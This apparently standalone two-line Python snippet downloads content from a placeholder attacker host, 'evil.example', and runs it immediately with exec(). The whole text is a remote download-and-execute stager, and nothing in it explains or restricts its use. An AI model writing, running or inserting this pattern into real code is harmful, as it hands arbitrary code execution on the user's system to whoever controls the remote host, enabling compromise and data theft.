import urllib.request
exec(urllib.request.urlopen('https://evil.example/x').read())
